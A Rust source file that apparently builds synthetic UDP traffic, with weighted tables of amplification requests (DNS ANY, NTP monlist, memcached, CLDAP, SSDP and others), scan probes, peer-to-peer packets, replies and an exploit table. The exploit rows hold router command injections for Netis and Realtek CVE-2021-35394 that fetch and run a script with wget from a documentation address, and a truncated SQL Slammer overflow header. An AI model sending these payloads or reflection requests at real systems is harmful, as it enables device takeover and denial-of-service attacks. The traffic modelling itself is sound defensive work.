//! The payloads of UDP traffic, one row each: port, bytes, and which of them change from packet to packet. Commands in exploit payloads
//! are inert: they name documentation addresses (RFC 5737).

use crate::random::Random;

/// A datagram that is sent over and over.
#[derive(Debug)]
pub struct Payload {
    /// Where it is sent; for replies, where it comes from.
    pub port: u16,
    /// The bytes; filled up with `fill` to `length`.
    pub bytes: &'static [u8],
    /// Place and number of the bytes that differ from packet to packet.
    pub random: (usize, usize),
    /// Whole length, bytes.
    pub length: usize,
    /// What follows `bytes`.
    pub fill: u8,
}

/// Longest payload of a row.
pub const PAYLOAD_BYTES_MAX: usize = 1280;

impl Payload {
    /// The payload in `buffer`.
    pub fn write<'a>(
        &self,
        buffer: &'a mut [u8; PAYLOAD_BYTES_MAX],
        random: &mut Random,
    ) -> &'a [u8] {
        buffer[..self.bytes.len()].copy_from_slice(self.bytes);
        buffer[self.bytes.len()..self.length].fill(self.fill);
        let (place, length) = self.random;
        random.fill(&mut buffer[place..place + length]);
        &buffer[..self.length]
    }
}

const fn fixed(port: u16, bytes: &'static [u8]) -> Payload {
    varied(port, bytes, 0, 0)
}

const fn varied(port: u16, bytes: &'static [u8], place: usize, length: usize) -> Payload {
    filled(port, bytes, (place, length), bytes.len(), 0)
}

const fn filled(
    port: u16,
    bytes: &'static [u8],
    random: (usize, usize),
    length: usize,
    fill: u8,
) -> Payload {
    Payload {
        port,
        bytes,
        random,
        length,
        fill,
    }
}

/// Requests that make an amplifier answer, with their weights.
pub const REFLECTOR_REQUESTS: &[(u32, Payload)] = &[
    // DNS: ANY with EDNS, A of a name, ANY of the root, version.bind in CHAOS.
    (12, varied(53, b"\0\0\x01\0\0\x01\0\0\0\0\0\x01\x03isc\x03org\0\0\xff\0\x01\0\0\x29\x10\0\0\0\0\0\0\0", 0, 2)),
    (8, varied(53, b"\0\0\x01\0\0\x01\0\0\0\0\0\0\x03www\x07example\x03com\0\0\x01\0\x01", 0, 2)),
    (4, varied(53, b"\0\0\x01\0\0\x01\0\0\0\0\0\0\0\0\xff\0\x01", 0, 2)),
    (4, varied(53, b"\0\0\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03", 0, 2)),
    // NTP: monlist (mode 7, request 42) short and padded, readvar (mode 6).
    (10, fixed(123, b"\x17\0\x03\x2a\0\0\0\0")),
    (4, filled(123, b"\x17\0\x03\x2a", (0, 0), 192, 0)),
    (3, fixed(123, b"\x16\x02\0\x01\0\0\0\0\0\0\0\0")),
    // SSDP: M-SEARCH.
    (9, fixed(1900, b"M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:ssdp:all\r\nMAN:\"ssdp:discover\"\r\nMX:1\r\n\r\n")),
    // SNMP v2c GetBulk, community public.
    (5, varied(161, b"\x30\x26\x02\x01\x01\x04\x06public\xa5\x19\x02\x04\0\0\0\0\x02\x01\0\x02\x02\x00\xfa\x30\x0a\x30\x08\x06\x04\x2b\x06\x01\x02\x05\0", 18, 3)),
    // CLDAP: rootDSE search.
    (6, fixed(389, b"\x30\x25\x02\x01\x01\x63\x20\x04\0\x0a\x01\0\x0a\x01\0\x02\x01\0\x02\x01\0\x01\x01\0\x87\x0bobjectclass\x30\0")),
    // memcached: stats behind the UDP frame header.
    (5, varied(11211, b"\0\0\0\0\0\x01\0\0stats\r\n", 0, 2)),
    (3, fixed(19, b"\x01")),
    (2, fixed(17, b"\x0d")),
    // Portmapper: DUMP call.
    (3, varied(111, b"\0\0\0\0\0\0\0\0\0\0\0\x02\0\x01\x86\xa0\0\0\0\x02\0\0\0\x04\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 0, 4)),
    // mDNS: services.
    (3, fixed(5353, b"\0\0\0\0\0\x01\0\0\0\0\0\0\x09_services\x07_dns-sd\x04_udp\x05local\0\0\x0c\0\x01")),
    // WS-Discovery: probe.
    (3, fixed(3702, b"<?xml version=\"1.0\" encoding=\"utf-8\"?><Envelope xmlns=\"http://www.w3.org/2003/05/soap-envelope\"><Header><Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</Action></Header><Body><Probe/></Body></Envelope>")),
    // NetBIOS: node status.
    (3, varied(137, b"\0\0\0\0\0\x01\0\0\0\0\0\0\x20CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0\0\x21\0\x01", 0, 2)),
    // CoAP: GET /.well-known/core.
    (3, varied(5683, b"\x40\x01\0\0\xbb.well-known\x04core", 2, 2)),
    (1, fixed(69, b"\0\x01a\0octet\0")),
    // Apple remote desktop, DHDiscover.
    (2, fixed(3283, b"\0\x14\0\0")),
    (2, fixed(37810, b"\x20\0\0\0DHIP\0\0\0\0\0\0\0\0\x45\0\0\0\0\0\0\0\x45\0\0\0\0\0\0\0{ \"method\" : \"DHDiscover.search\", \"params\" : { \"mac\" : \"\" } }\n")),
    // Game servers: Quake status, Source engine information.
    (1, fixed(27960, b"\xff\xff\xff\xffgetstatus\n")),
    (2, fixed(27015, b"\xff\xff\xff\xffTSource Engine Query\0")),
    // STUN binding request, OpenVPN hard reset.
    (2, varied(3478, b"\0\x01\0\0\x21\x12\xa4\x42\0\0\0\0\0\0\0\0\0\0\0\0", 8, 12)),
    (1, varied(1194, b"\x38\0\0\0\0\0\0\0\0\0\0\0\0\0", 1, 8)),
];

/// Requests of plain scans: nothing in them is answered with more than was asked.
pub const SCAN_REQUESTS: &[(u32, Payload)] = &[
    (60, varied(5060, b"OPTIONS sip:100@198.51.100.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK-0000000000;rport\r\nMax-Forwards: 70\r\nFrom: \"sip\"<sip:100@192.0.2.1>;tag=1\r\nTo: \"sip\"<sip:100@198.51.100.1>\r\nCall-ID: 9\r\nCSeq: 1 OPTIONS\r\nContact: <sip:100@192.0.2.1:5060>\r\nUser-Agent: friendly-scanner\r\nAccept: application/sdp\r\nAllow: INVITE, ACK, CANCEL, OPTIONS, BYE, REFER, SUBSCRIBE, NOTIFY, INFO\r\nContent-Length: 0\r\n\r\n", 0, 0)),
    (40, fixed(0, b"")),
];

/// Attacks that fit into one datagram.
pub const EXPLOITS: &[(u32, Payload)] = &[
    // SQL Slammer (2003): request 4, a run of 01 that overflows, the return address; the code that followed is left out.
    (30, filled(1434, SLAMMER_HEAD, (0, 0), 376, 0x90)),
    // Netis and Netcore routers' open command port (2014).
    (
        50,
        fixed(
            53413,
            b"AA\0\0AAAA cd /tmp || cd /var/run; wget http://192.0.2.7/n.sh; sh n.sh\0",
        ),
    ),
    // Realtek SDK's UDPServer, CVE-2021-35394.
    (
        20,
        fixed(9034, b"orf;cd /tmp; wget http://192.0.2.7/r.sh; sh r.sh"),
    ),
];

const SLAMMER_HEAD: &[u8] = &{
    let mut bytes = [1; 105];
    bytes[0] = 4;
    let tail = *b"\xdc\xc9\xb0\x42\xeb\x0e\x01\x01";
    let mut index = 0;
    while index < tail.len() {
        bytes[97 + index] = tail[index];
        index += 1;
    }
    bytes
};

/// Peer-to-peer programs that remember an address wrongly: DHT ping, find_node and get_peers, and a uTP connection request.
pub const PEER_TO_PEER: &[(u32, Payload)] = &[
    (30, varied(6881, b"d1:ad2:id20:00000000000000000000e1:q4:ping1:t2:aa1:v4:LT\x01\x021:y1:qe", 12, 20)),
    (25, varied(6881, b"d1:ad2:id20:000000000000000000006:target20:abcdefghij0123456789e1:q9:find_node1:t2:aa1:y1:qe", 12, 20)),
    (30, varied(6881, b"d1:ad2:id20:000000000000000000009:info_hash20:mnopqrstuvwxyz123456e1:q9:get_peers1:t2:aa1:y1:qe", 12, 20)),
    (15, varied(6881, b"\x41\0\0\0\0\0\0\0\0\0\0\0\0\x38\0\0\0\0\0\0", 2, 6)),
];

/// Answers of attacked services and of abused amplifiers.
pub const REPLIES: &[(u32, Payload)] = &[
    (35, varied(53, b"\0\0\x81\x80\0\x01\0\x01\0\0\0\0\x03www\x07example\x03com\0\0\x01\0\x01\xc0\x0c\0\x01\0\x01\0\0\x0e\x10\0\x04\xcb\0\x71\x07", 0, 2)),
    (20, varied(53, b"\0\0\x81\x83\0\x01\0\0\0\0\0\0\x08aaaaaaaa\x07example\x03com\0\0\x01\0\x01", 0, 2)),
    (10, varied(53, b"\0\0\x81\x85\0\x01\0\0\0\0\0\0\x03isc\x03org\0\0\xff\0\x01", 0, 2)),
    // A large ANY answer: one TXT record of 1,200 bytes, as amplifiers send it within the limit of EDNS.
    (90, filled(53, b"\0\0\x81\x80\0\x01\0\x01\0\0\0\0\x03isc\x03org\0\0\xff\0\x01\xc0\x0c\0\x10\0\x01\0\0\x0e\x10\x04\xb0", (0, 2), 1237, 49)),
    // NTP monlist answer: six items of 72 bytes.
    (15, filled(123, b"\xd7\0\x03\x2a\0\x06\0\x48", (0, 0), 440, 7)),
    (10, fixed(1900, b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nUSN: uuid:0::upnp:rootdevice\r\nEXT:\r\nSERVER: Linux/3.4 UPnP/1.0\r\n\r\n")),
    (10, varied(161, b"\x30\x2c\x02\x01\x01\x04\x06public\xa2\x1f\x02\x04\0\0\0\0\x02\x01\0\x02\x01\0\x30\x11\x30\x0f\x06\x08\x2b\x06\x01\x02\x01\x01\x05\0\x04\x03abc", 18, 3)),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_fit_and_random_bytes_lie_inside() {
        for rows in [
            REFLECTOR_REQUESTS,
            SCAN_REQUESTS,
            EXPLOITS,
            PEER_TO_PEER,
            REPLIES,
        ] {
            for (_, row) in rows {
                assert!(row.length <= PAYLOAD_BYTES_MAX && row.bytes.len() <= row.length);
                assert!(
                    row.random.0 + row.random.1 <= row.bytes.len(),
                    "{}",
                    row.port
                );
            }
        }
    }

    #[test]
    fn lengths_inside_ber_payloads_hold() {
        for (_, row) in REFLECTOR_REQUESTS.iter().chain(REPLIES) {
            if row.bytes.first() == Some(&0x30) {
                assert_eq!(
                    usize::from(row.bytes[1]) + 2,
                    row.bytes.len(),
                    "{}",
                    row.port
                );
            }
        }
    }

    #[test]
    fn slammer_has_its_length_and_its_return_address() {
        let row = EXPLOITS.iter().find(|row| row.1.port == 1434);
        let mut buffer = [0; PAYLOAD_BYTES_MAX];
        let bytes = row.map(|row| row.1.write(&mut buffer, &mut Random::new(1, 1)).to_vec());
        let bytes = bytes.unwrap_or_default();
        assert_eq!(bytes.len(), 376);
        assert_eq!(bytes[97..101], [0xdc, 0xc9, 0xb0, 0x42]);
    }
}
